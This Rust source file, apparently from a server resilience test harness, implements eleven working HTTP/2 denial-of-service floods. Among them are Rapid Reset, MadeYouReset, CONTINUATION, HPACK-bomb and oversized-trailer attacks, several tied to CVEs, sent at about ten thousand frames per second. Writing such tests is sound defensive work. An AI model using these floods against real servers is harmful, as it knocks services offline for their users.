//! Floods of HTTP/2 frames.

use std::time::Duration;

use tokio::{
    io::{AsyncReadExt, AsyncWriteExt, split},
    time::sleep,
};

use super::attackers::AttackStream;
use crate::support::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, Frame, GOAWAY, HEADERS, PING, PREFACE, RST_STREAM,
    SETTINGS, WINDOW_UPDATE, field_block,
};

/// A flood of frames.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Flood {
    /// Streams that are reset at once (CVE-2023-44487).
    RapidReset,
    /// Streams that are reset once the server has accepted them.
    LateReset,
    /// Streams that the server has to reset (CVE-2025-8671).
    MadeYouReset,
    /// A block of fields that never ends (CVE-2024-27316).
    Continuation,
    /// CVE-2019-9512.
    Ping,
    /// CVE-2019-9515.
    Settings,
    /// A body without bytes that never ends (CVE-2019-9518).
    EmptyData,
    /// CVE-2019-9513.
    Priority,
    /// Windows that are updated by one byte.
    WindowUpdates,
    /// Blocks of one byte for each field of 4 KB.
    HpackBomb,
    /// Trailers that are larger than a head may be.
    Trailers,
}

// === impl Flood ===

impl Flood {
    /// Floods until the end of the connection, and names it.
    pub(super) async fn run(self, stream: AttackStream, cookies: &str) -> String {
        let (mut reader, mut writer) = split(stream);
        let flooding = async {
            writer.write_all(PREFACE).await?;
            writer
                .write_all(&Frame::new(SETTINGS, 0, 0, []).bytes())
                .await?;
            for batch in 0u32.. {
                let numbers = batch * BATCH..(batch + 1) * BATCH;
                let bytes: Vec<_> = numbers
                    .flat_map(|number| self.unit(number, cookies))
                    .collect();
                writer.write_all(&bytes).await?;
                writer.flush().await?;
                sleep(PAUSE).await;
            }
            Ok::<_, std::io::Error>(())
        };
        let mut received = Vec::new();
        let reading = async {
            while reader
                .read_buf(&mut received)
                .await
                .is_ok_and(|count| count > 0)
            {}
        };
        // What the server says is read to its end: an error of a write comes before it.
        let (_, ()) = tokio::join!(flooding, reading);
        end_of(&received)
    }

    /// The frames of one repetition.
    fn unit(self, number: u32, cookies: &str) -> Vec<u8> {
        let stream = 2 * number + 1;
        let frame =
            |kind, flags, stream, payload: &[u8]| Frame::new(kind, flags, stream, payload).bytes();
        let cancel = 8u32.to_be_bytes();
        let head = |method: &[u8], path: &[u8], flags| {
            let fields = [
                (&b":method"[..], method),
                (b":scheme", b"https"),
                (b":authority", b"meet.example.org"),
                (b":path", path),
                (b"origin", b"https://meet.example.org"),
                (b"user-agent", b"Mozilla/5.0"),
                (b"cookie", cookies.as_bytes()),
            ];
            frame(HEADERS, flags, stream, &field_block(fields))
        };
        let get = || head(b"GET", b"/libs/app.bundle.min.js", END_STREAM | END_HEADERS);
        match self {
            Self::RapidReset => [get(), frame(RST_STREAM, 0, stream, &cancel)].concat(),
            Self::LateReset => {
                let mut bytes = get();
                if let Some(earlier) = number.checked_sub(BATCH) {
                    bytes.extend(frame(RST_STREAM, 0, 2 * earlier + 1, &cancel));
                }
                bytes
            }
            Self::MadeYouReset => {
                // A window above the largest is an error of the stream (RFC 9113 § 6.9.1).
                let largest = 0x7fff_ffff_u32.to_be_bytes();
                [get(), frame(WINDOW_UPDATE, 0, stream, &largest)].concat()
            }
            Self::Continuation if number == 0 => frame(HEADERS, END_STREAM, 1, &field_block([])),
            Self::Continuation => frame(CONTINUATION, 0, 1, &field_block([(&b"a"[..], &b"b"[..])])),
            Self::Ping => frame(PING, 0, 0, &[0; 8]),
            Self::Settings => frame(SETTINGS, 0, 0, &[]),
            Self::EmptyData if number == 0 => head(b"POST", b"/http-bind?room=plan", END_HEADERS),
            Self::EmptyData => frame(DATA, 0, 1, &[]),
            Self::Priority => frame(PRIORITY, 0, stream, &[0, 0, 0, 0, 16]),
            Self::WindowUpdates => frame(WINDOW_UPDATE, 0, 0, &1u32.to_be_bytes()),
            Self::HpackBomb => {
                let mut block = Vec::new();
                if number == 0 {
                    // A literal with incremental indexing (RFC 7541 § 6.2.1): "x", and 4000 bytes, whose
                    // length is 127 + 3873 in the form of § 5.1.
                    block.extend([0x40, 1, b'x', 0x7f, 0xa1, 0x1e]);
                    block.extend([b'a'; 4000]);
                }
                // The newest entry of the dynamic table (index 62).
                block.extend([0xbe; 8192]);
                frame(HEADERS, END_STREAM | END_HEADERS, stream, &block)
            }
            Self::Trailers => {
                let post = head(b"POST", b"/http-bind?room=plan", END_HEADERS);
                // Fields of 4 KB each, in a block of 200 bytes.
                let entry = [&[0x40, 1, b'x', 0x7f, 0xa1, 0x1e][..], &[b'a'; 4000]].concat();
                let block = if number == 0 { entry } else { vec![0xbe; 200] };
                let trailers = frame(HEADERS, END_STREAM | END_HEADERS, stream, &block);
                [post, trailers].concat()
            }
        }
    }
}

/// How the server ended the connection.
fn end_of(mut received: &[u8]) -> String {
    let mut end = "closed".to_owned();
    while let [a, b, c, kind, ..] = *received {
        let length = usize::try_from(u32::from_be_bytes([0, a, b, c])).unwrap();
        if kind == GOAWAY
            && let Some(code) = received.get(13..17)
        {
            let code = u32::from_be_bytes(code.try_into().unwrap());
            let text = received.get(17..9 + length).unwrap_or_default();
            end = format!("GOAWAY {code} {}", String::from_utf8_lossy(text));
        }
        received = received.get(9 + length..).unwrap_or_default();
    }
    end
}

const PRIORITY: u8 = 2;

/// Repetitions at a time, and the pause behind them: some ten thousand frames a second of each connection.
const BATCH: u32 = 20;
const PAUSE: Duration = Duration::from_millis(2);
